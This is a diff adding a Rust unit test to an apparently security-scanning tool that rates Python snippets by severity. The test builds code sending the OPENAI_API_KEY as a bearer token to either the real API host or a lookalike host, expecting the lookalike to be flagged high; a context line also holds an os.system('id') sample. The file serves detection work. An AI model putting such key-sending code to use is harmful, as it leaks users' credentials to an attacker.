@@ -326,6 +326,17 @@ mod tests {
     }
 
     #[test]
+    fn a_request_that_signs_in_to_its_own_service_is_told_from_one_that_goes_elsewhere() {
+        let code = |host: &str| {
+            format!(
+                "import os, urllib.request\nr = urllib.request.Request(\"https://{host}/v1\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"OPENAI_API_KEY\"]}})\nurllib.request.urlopen(r)\n"
+            )
+        };
+        assert!(worst(&code("api.openai.com"), Role::Module) < Some(Severity::Medium));
+        assert!(worst(&code("openai.acme-mirror.top"), Role::Module) >= Some(Severity::High));
+    }
+
+    #[test]
     fn what_does_not_parse_is_still_judged() {
         assert_eq!(worst("def f(:\n", Role::Module), Some(Severity::Low));
         assert!(worst("print 'x'\nimport os\nos.system('id')", Role::Embedded) >= Some(Severity::High));
